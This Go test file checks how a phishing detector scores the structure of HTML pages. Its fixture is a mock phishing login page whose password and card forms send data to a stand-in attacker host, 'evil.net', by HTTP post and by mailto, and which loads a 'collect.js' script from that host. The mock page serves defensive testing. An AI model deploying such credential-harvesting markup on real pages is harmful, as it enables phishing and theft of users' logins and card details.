package extract

import (
	"context"
	"math"
	"reflect"
	"strings"
	"testing"

	"github.com/ppiankov/phishlens/internal/model"
)

const loginFixture = `<!DOCTYPE html>
<html>
<head>
	<title>Sign in</title>
	<link rel="icon" href="https://evil.net/favicon.ico">
	<script src="https://evil.net/collect.js"></script>
</head>
<body>
	<img src="/logo.png">
	<form action="http://evil.net/collect" method="post">
		<input name="user"><input name="pass" type="password">
	</form>
	<form action=""><input name="q"></form>
	<form action="mailto:drop@evil.net"><input name="card"></form>
	<form action="/submit"><img alt="Continue"></form>

	<a href="#">Help</a>
	<a href="https://cdn.example.com/terms">Terms</a>
	<a href="https://other.org/">Partner</a>
	<a href="/local">Local</a>

	<iframe src="https://evil.net/frame"></iframe>
</body>
</html>`

func documentResult(t *testing.T, page, finalURL string) model.FetchResult {
	t.Helper()
	doc, err := ParseDocument(strings.NewReader(page), finalURL, model.StrategyHTTP)
	if err != nil {
		t.Fatalf("parse fixture: %v", err)
	}
	return model.DocumentResult(doc)
}

func TestStructural_LoginFixture(t *testing.T) {
	s := NewStructural()
	f := s.Extract(context.Background(), "https://login.example.com/", documentResult(t, loginFixture, "https://login.example.com/"))

	want := map[string]float64{
		FeatMissingTitle:                  0,
		FeatNumForms:                      4,
		FeatInsecureForms:                 1,
		FeatRelativeFormAction:            1,
		FeatAbnormalFormAction:            1,
		FeatSubmitInfoToEmail:             1,
		FeatImageOnlyForms:                1,
		FeatExtFormAction:                 1,
		FeatPctExtHyperlinks:              0.25,
		FeatPctNullSelfRedirectHyperlinks: 0.25,
		FeatPctExtResourceUrls:            0.5,
		FeatExtFavicon:                    1,
		FeatIframeOrFrame:                 1,
		FeatPctDomainMismatch:             0.4,
		FeatFrequentDomainNameMismatch:    0,
	}

	for k, v := range want {
		if math.Abs(f[k]-v) > 1e-9 {
			t.Errorf("%s: expected %v, got %v", k, v, f[k])
		}
	}
	if len(f) != len(s.Keys()) {
		t.Errorf("expected %d keys, got %d", len(s.Keys()), len(f))
	}
}

func TestStructural_UnavailableYieldsDefaults(t *testing.T) {
	s := NewStructural()
	f := s.Extract(context.Background(), "https://example.com/", model.UnavailableResult("connection refused", model.StrategyHTTP))

	if !reflect.DeepEqual(f, s.Defaults()) {
		t.Errorf("expected defaults, got %v", f)
	}
	if f[FeatMissingTitle] != 1 {
		t.Error("defaults describe a page without a title")
	}
}

func TestStructural_EmptyPageHasNoDivisionByZero(t *testing.T) {
	s := NewStructural()
	f := s.Extract(context.Background(), "https://example.com/", documentResult(t, "<html><body></body></html>", ""))

	for k, v := range f {
		if math.IsNaN(v) || math.IsInf(v, 0) {
			t.Errorf("%s is not finite: %v", k, v)
		}
	}
	if f[FeatMissingTitle] != 1 || f[FeatPctExtHyperlinks] != 0 {
		t.Errorf("unexpected features for empty page: %v", f)
	}
}

func TestStructural_FrequentMismatch(t *testing.T) {
	page := `<html><head><title>x</title></head><body>
		<a href="https://a.net/">1</a><a href="https://b.net/">2</a><a href="/own">3</a>
	</body></html>`

	f := NewStructural().Extract(context.Background(), "https://example.com/", documentResult(t, page, "https://example.com/"))
	if f[FeatFrequentDomainNameMismatch] != 1 {
		t.Errorf("expected frequent mismatch, got %v (pct %v)", f[FeatFrequentDomainNameMismatch], f[FeatPctDomainMismatch])
	}
}

func TestIsNullOrSelfRedirect(t *testing.T) {
	for _, href := range []string{"", "#", " # ", "#!", "javascript:void(0)", "JavaScript: void(0);", "javascript:;"} {
		if !isNullOrSelfRedirect(href) {
			t.Errorf("%q should be a null link", href)
		}
	}
	for _, href := range []string{"#top", "/", "https://example.com/"} {
		if isNullOrSelfRedirect(href) {
			t.Errorf("%q should not be a null link", href)
		}
	}
}

func TestStructural_NamedAnchorIsNotNullLink(t *testing.T) {
	page := `<html><head><title>x</title></head><body>
		<a name="top"></a><a href="/about">About</a><a href="">Empty</a><a href="#">Top</a>
	</body></html>`

	f := NewStructural().Extract(context.Background(), "https://example.com/", documentResult(t, page, "https://example.com/"))
	if got := f[FeatPctNullSelfRedirectHyperlinks]; got != 0.5 {
		t.Errorf("PctNullSelfRedirectHyperlinks = %v, want 0.5", got)
	}
}

func TestStructural_FormsCounted(t *testing.T) {
	f := NewStructural().Extract(context.Background(), "https://example.com/login", documentResult(t, loginFixture, "https://example.com/login"))
	if f[FeatNumForms] != 4 {
		t.Errorf("NumForms = %v, want 4", f[FeatNumForms])
	}
}
